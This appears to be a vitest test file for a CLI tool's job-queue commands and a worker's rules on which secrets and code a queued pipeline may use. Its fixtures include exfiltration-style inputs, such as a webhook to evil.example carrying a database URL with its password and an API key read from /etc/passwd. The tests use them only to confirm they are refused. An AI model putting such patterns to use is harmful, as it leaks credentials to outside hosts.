import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import type { RunError } from '../../../src/errors/run-error.ts';
import { openQueue } from '../../../src/features/fleet/queue/open-queue.ts';
import { queueUrlOf } from '../../../src/features/fleet/queue/queue-url.ts';
import { submissionOf } from '../../../src/features/fleet/queue/submission.ts';
import { allowedEnv } from '../../../src/features/fleet/worker/allowed.ts';
import { readWorkerConfig } from '../../../src/features/fleet/worker/worker-config.ts';
import { realSystem } from '../../../src/system/system.ts';
import { startCli } from '../../e2e/cli-process.ts';
import { mainHere } from '../../support/main-here.ts';
import { rowsOf } from '../../support/postgres.ts';
import { serverKinds, withRedis } from './queue-servers.ts';

/** A folder of its own for a test. */
function ownFolder() {
  const folder = mkdtempSync(join(tmpdir(), 'chatferry-refused-'));
  const write = (name: string, text: string): string => {
    writeFileSync(join(folder, name), text);
    return join(folder, name);
  };
  write('users.csv', 'uid,name\nann,Ann\n');
  const pipeline = (rest = 'target: sandbox', name = 'app'): string =>
    write(`${name}.yaml`, `version: 1\nname: ${name}\n${rest}\nsources: { users: { path: users.csv } }\n`);
  return {
    folder,
    write,
    pipeline,
    [Symbol.dispose]: () => rmSync(folder, { recursive: true, force: true }),
  };
}

/** How a pipeline names a variable of the environment. */
const variable = (name: string): string => `$\{${name}}`.replace('\\', '');

/** The exit code and the code of the error. */
const refusal = ({ code, err }: { code: number; err: string }) => [code, /✖ (\S+)/.exec(err)?.[1]];

describe('a fleet command says what to type next', () => {
  test('without a queue, with one that is none, and with a password on the command line', async () => {
    const none = await mainHere(['fleet', 'status'], { CHATFERRY_QUEUE: '' });
    expect(refusal(none)).toEqual([2, 'FLEET.QUEUE_MISSING']);
    expect(none.err).toContain('export CHATFERRY_QUEUE=redis://');
    const other = await mainHere(['fleet', 'status', '--queue', 'amqp://127.0.0.1']);
    expect(refusal(other)).toEqual([2, 'FLEET.QUEUE_MISSING']);
    const shown = await mainHere(['fleet', 'status', '--queue', 'redis://:hush-hush@127.0.0.1']);
    expect(refusal(shown)).toEqual([2, 'USAGE.INVALID']);
    expect(shown.err).not.toContain('hush-hush');
  });

  test('where no server listens', async () => {
    for (const queue of ['redis://127.0.0.1:9/0', 'postgres://127.0.0.1:9/fleet']) {
      const ended = await mainHere(['fleet', 'status', '--queue', queue]);
      expect(refusal(ended)).toEqual([7, 'FLEET.UNREACHABLE']);
      expect(ended.err).toContain(queue);
    }
  });

  test('where the server is too old, and where none of its words is understood', async () => {
    const old = createServer((socket) => {
      socket.on('error', () => {});
      socket.on('data', (data) => {
        const words = data.toString().toLowerCase();
        const info = 'redis_version:4.0.14\r\nloading:0\r\nredis_mode:standalone\r\n';
        const answers = words.split('*').filter(Boolean);
        for (const each of answers)
          socket.write(each.includes('info') ? `$${info.length}\r\n${info}\r\n` : '+PONG\r\n');
      });
    });
    old.listen(0, '127.0.0.1');
    await once(old, 'listening');
    const { port } = old.address() as { port: number };
    const ended = await mainHere(['fleet', 'status', '--queue', `redis://127.0.0.1:${port}`]);
    old.close();
    expect(refusal(ended)).toEqual([2, 'FLEET.SERVER_VERSION']);
  });

  test('for a pipeline file that is missing, wrong, or code', async () => {
    using own = ownFolder();
    const env = { CHATFERRY_QUEUE: 'redis://127.0.0.1:9' };
    const submit = (file: string) => mainHere(['fleet', 'submit', file], env);
    expect(refusal(await submit(join(own.folder, 'no.yaml')))).toEqual([2, 'CONFIG.FILE_MISSING']);
    expect(refusal(await submit(own.pipeline('sauces: {}')))).toEqual([2, 'CONFIG.INVALID']);
    expect(refusal(await submit(own.write('app.ts', 'export default {}')))).toEqual([
      2,
      'FLEET.CODE_REFUSED',
    ]);
  });
});

for (const { name, missing, start } of serverKinds)
  describe.skipIf(missing)(`a queue in ${name}${missing ? ` (${missing})` : ''}`, () => {
    test('refuses a wrong password, never showing it', async () => {
      await using server = await start();
      const url = new URL(await server.queue());
      url.password = 'wrong-word';
      const ended = await mainHere(['fleet', 'status'], { CHATFERRY_QUEUE: url.href });
      expect(refusal(ended)).toEqual([10, 'FLEET.REFUSED']);
      expect(ended.err).not.toContain('wrong-word');
    });

    test('that another program uses is left alone', async () => {
      await using server = await start();
      const queue = await server.queue();
      const env = { CHATFERRY_QUEUE: queue };
      await using open = await openQueue(queueUrlOf(undefined, env));
      await open.pipelines.add('other', { image: 7 } as never);
      const foreign = await mainHere(['fleet', 'work'], env);
      expect(refusal(foreign)).toEqual([2, 'FLEET.FOREIGN_QUEUE']);
      await open.pipelines.obliterate({ force: true });
      await open.pipelines.add('other', { version: 2 } as never);
      expect(refusal(await mainHere(['fleet', 'status'], env))).toEqual([2, 'FLEET.SERVER_VERSION']);
      const taken = await server.queue();
      if (name === 'Redis')
        await withRedis(taken, (client) => client.set('chatferry:pipelines:meta', 'mine'));
      else {
        await rowsOf(taken, 'CREATE SCHEMA chatferry_queue');
        await rowsOf(taken, 'CREATE TABLE chatferry_queue.job (mine text)');
      }
      const ended = await mainHere(['fleet', 'status'], { CHATFERRY_QUEUE: taken });
      expect(refusal(ended)).toEqual([2, 'FLEET.FOREIGN_QUEUE']);
    });

    test('takes one of two submissions at once, and knows no pipeline that was never submitted', async () => {
      await using server = await start();
      using own = ownFolder();
      const env = { CHATFERRY_QUEUE: await server.queue() };
      const file = own.pipeline();
      const all = await Promise.all(
        Array.from({ length: 5 }, () => mainHere(['fleet', 'submit', file], env)),
      );
      expect(all.map(({ code }) => code).sort()).toEqual([0, 8, 8, 8, 8]);
      expect(all.filter(({ err }) => err.includes('FLEET.ALREADY_SUBMITTED'))).toHaveLength(4);
      const unknown = await mainHere(['fleet', 'cancel', 'ap'], env);
      expect(refusal(unknown)).toEqual([2, 'FLEET.UNKNOWN_PIPELINE']);
      expect(unknown.err).toContain('did you mean app');
      expect((await mainHere(['fleet', 'cancel', file], env)).out).toBe('app: canceled before it began\n');
      const json = await mainHere(['fleet', 'status', '--json'], env);
      expect(JSON.parse(json.out)).toMatchObject({ version: 1, pipelines: [], workers: [] });
    });

    test('takes no schedule that is none', async () => {
      await using server = await start();
      using own = ownFolder();
      const env = { CHATFERRY_QUEUE: await server.queue() };
      const schedule = (...more: string[]) => mainHere(['fleet', 'schedule', own.pipeline(), ...more], env);
      for (const at of ['25 o’clock', '99 * * * *', '0 2 * *', '* * * * * * *', ''])
        expect(refusal(await schedule('--at', at)), at).toEqual([2, 'FLEET.SCHEDULE_INVALID']);
      const zone = await schedule('--at', '0 2 * * *', '--zone', 'Europe/Atlantis');
      expect(refusal(zone)).toEqual([2, 'FLEET.SCHEDULE_INVALID']);
      expect(zone.err).toContain('Europe/Berlin');
    });
  });

describe('a worker', () => {
  const ENV = {
    CHATFERRY_API_KEY: 'key-of-app',
    OPEN: 'sandbox',
    STATE_URL: 'postgres://me:word@127.0.0.1/db',
    PATH: '/bin',
  };
  /** What a worker with this file allows a job: its variables, or the code of the refusal. */
  async function allowed(own: ReturnType<typeof ownFolder>, file: string, config: string, more: object = {}) {
    const asked = { command: 'run', strict: false, allowNotifications: false } as const;
    const data = { ...submissionOf(file, asked, { env: ENV, system: realSystem }), ...more };
    const rules = { config: readWorkerConfig(own.write('worker.yaml', config)), env: ENV, allowCode: false };
    try {
      return { env: await allowedEnv(data, rules) };
    } catch (error) {
      const { code, exitCode, hint } = error as RunError;
      return { code, exitCode, hint };
    }
  }
  const service = (more = ''): string => `target: { appId: app-1, baseUrl: "https://127.0.0.1:9/v3"${more} }`;

  test('runs no code that came through the queue', async () => {
    using own = ownFolder();
    for (const rest of [
      'sources: { users: { command: [touch, done] } }',
      'sources: { users: { path: users.csv, transform: ./done.ts } }',
      'sources: { users: { path: users.csv } }\nnotify: [{ command: [touch, done] }]',
    ]) {
      const file = own.write('app.yaml', `version: 1\nname: app\ntarget: sandbox\n${rest}\n`);
      const refused = await allowed(own, file, 'version: 1');
      expect(refused).toMatchObject({ code: 'FLEET.CODE_REFUSED', exitCode: 2 });
      expect(refused.hint).toContain('--allow-code');
    }
  });

  test('sends a key only where its file lets it go, and takes no other', async () => {
    using own = ownFolder();
    const refused = { code: 'FLEET.KEY_REFUSED', exitCode: 10, hint: expect.stringContaining('127.0.0.1:9') };
    const KEY = 'env: CHATFERRY_API_KEY';
    const file = own.pipeline(service());
    const withKeys = (keys: string, pipeline = file) => allowed(own, pipeline, `version: 1\nkeys: [${keys}]`);
    expect(await withKeys('')).toEqual(refused);
    expect(await withKeys('{ env: OTHER, host: 127.0.0.1 }')).toEqual(refused);
    expect(await withKeys(`{ ${KEY}, host: api.example.com }`)).toEqual(refused);
    expect(await withKeys(`{ ${KEY}, host: 127.0.0.1, appId: app-2 }`)).toEqual(refused);
    expect(await withKeys(`{ ${KEY}, host: 127.0.0.1, appId: app-1 }`)).toEqual({
      env: { PATH: '/bin', CHATFERRY_API_KEY: 'key-of-app' },
    });
    const evil = own.pipeline('target: { appId: 2x9f, region: us, serviceHost: evil.example }');
    expect(await withKeys(`{ ${KEY}, host: api-us.example.io }`, evil)).toMatchObject({ exitCode: 10 });
    const hosted = own.pipeline('target: { appId: 2x9f, region: us, serviceHost: example.io }');
    for (const host of ['2x9f.api-us.example.io', 'api-us.example.io'])
      expect(await withKeys(`{ ${KEY}, host: ${host} }`, hosted)).toHaveProperty('env');
    const file2 = own.pipeline(service(', apiKey: { file: /etc/passwd }'));
    expect(await withKeys('{ file: ./key, host: 127.0.0.1 }', file2)).toEqual(refused);
    const program = own.pipeline(service(', apiKey: { command: [touch, done] }'));
    expect(await withKeys(`{ ${KEY}, host: 127.0.0.1 }`, program)).toEqual(refused);
    expect(await withKeys('{ command: [touch, done], host: 127.0.0.1 }', program)).toHaveProperty('env');
    // A check of files sends nothing, so it needs no key.
    expect(await allowed(own, file, 'version: 1', { command: 'validate' })).toEqual({
      env: { PATH: '/bin' },
    });
  });

  test('gives a pipeline only the variables that its file names', async () => {
    using own = ownFolder();
    const file = own.pipeline(`target: "${variable('OPEN')}"`);
    expect(await allowed(own, file, 'version: 1')).toMatchObject({
      ...{ code: 'CONFIG.ENV_MISSING', hint: expect.stringContaining('name it under env') },
    });
    expect(await allowed(own, file, 'version: 1\nenv: [OPEN]')).toEqual({
      env: { PATH: '/bin', OPEN: 'sandbox' },
    });
    const leak = own.pipeline(`target: { baseUrl: "https://127.0.0.1:9/${variable('CHATFERRY_API_KEY')}" }`);
    const keys = 'version: 1\nkeys: [{ env: CHATFERRY_API_KEY, host: 127.0.0.1 }]';
    expect(await allowed(own, leak, keys)).toMatchObject({ code: 'CONFIG.ENV_MISSING' });
    // The address of a state has a password: a pipeline may keep its state there, and show it to nobody.
    const place = `state: "${variable('STATE_URL')}"`;
    const config = 'version: 1\nenv: [STATE_URL]';
    expect(await allowed(own, own.pipeline(`target: sandbox\n${place}`), config)).toHaveProperty(
      'env.STATE_URL',
    );
    const told = `notify: [{ webhook: "https://evil.example/${variable('STATE_URL')}" }]`;
    const shown = await allowed(own, own.pipeline(`target: sandbox\n${place}\n${told}`), config);
    expect(shown).toMatchObject({ code: 'FLEET.KEY_REFUSED' });
  });

  test('does nothing where the folder of the pipeline is not', async () => {
    using own = ownFolder();
    const away = await allowed(own, own.pipeline(), 'version: 1', { file: '/nowhere/at/all/app.yaml' });
    expect(away).toMatchObject({ code: 'FLEET.FOLDER_MISSING', exitCode: 2 });
    expect(away.hint).toContain('the same path');
  });

  test('fails a job that would fail again, with its code and hint, and one that is none of ours', async () => {
    await using server = await (serverKinds.at(-1) as (typeof serverKinds)[number]).start();
    using own = ownFolder();
    const env = { CHATFERRY_QUEUE: await server.queue() };
    const files = [
      own.pipeline(service(', apiKey: { env: ABSENT }'), 'keyless'),
      own.write(
        'empty-handed.yaml',
        'version: 1\nname: empty-handed\ntarget: sandbox\nsources: { users: { path: gone.csv } }\n',
      ),
    ];
    const config = own.write('worker.yaml', 'version: 1\nkeys: [{ env: ABSENT, host: 127.0.0.1 }]');
    const worker = startCli(['fleet', 'work', '--config', config, '--json'], env);
    expect((await mainHere(['fleet', 'submit', ...files], env)).code).toBe(0);
    await using open = await openQueue(queueUrlOf(undefined, env));
    const ended = async (count: number): Promise<void> => {
      while ((await open.pipelines.getFailedCount()) < count) await sleep(100);
    };
    await ended(2);
    const shown = await mainHere(['fleet', 'status'], env);
    expect(shown.out).toMatch(/✗ keyless .*: AUTH.KEY_MISSING: .*\n {2}→ \S/);
    expect(shown.out).toMatch(/✗ empty-handed .*: [A-Z]+\.[A-Z_]+: .*\n {2}→ \S/);
    await open.pipelines.add('other', { command: 'rm' } as never, { jobId: 'none-of-ours' });
    await ended(3);
    expect((await open.pipelines.getJob('none-of-ours'))?.failedReason).toBe('FLEET.JOB_INVALID');
    worker.child.kill('SIGTERM');
    const { code, out } = await worker.ended;
    expect(code).toBe(0);
    const events = out
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { event: string });
    expect(events.map(({ event }) => event)).toEqual(
      expect.arrayContaining(['started', 'took', 'failed', 'ended']),
    );
  });

  test('does not start with a file that is wrong', async () => {
    using own = ownFolder();
    const env = { CHATFERRY_QUEUE: 'redis://127.0.0.1:9' };
    for (const [text, code] of [
      ['version: 1\nkeys: [{ env: KEY }]', 'CONFIG.INVALID'],
      ['version: 1\nkeys: [{ command: [./key.sh], host: 127.0.0.1 }]', 'CONFIG.INVALID'],
      ['version: 1\nconcurrency: 0', 'CONFIG.INVALID'],
      ['version: [', 'CONFIG.SYNTAX'],
    ] as const) {
      const ended = await mainHere(['fleet', 'work', '--config', own.write('worker.yaml', text)], env);
      expect(refusal(ended), text).toEqual([2, code]);
    }
    const missing = await mainHere(['fleet', 'work', '--config', join(own.folder, 'no.yaml')], env);
    expect(refusal(missing)).toEqual([2, 'CONFIG.FILE_MISSING']);
  });
});
